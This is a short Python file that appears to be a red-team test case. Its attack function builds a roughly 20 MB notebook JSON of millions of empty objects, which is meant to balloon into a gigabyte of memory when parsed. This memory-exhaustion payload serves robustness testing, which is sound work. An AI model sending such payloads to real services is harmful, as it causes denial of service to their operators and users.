"""Hands in 20 MB of JSON that become a gigabyte of objects (points 4, 5)."""

from redteam.tools import World

BASE = "honest"
REFUSED = "ask the student"


def attack(notebook, world: World) -> bytes:
    return b'{"cells": [], "x": [' + b"{}," * (7 * 2**20) + b"{}]}"
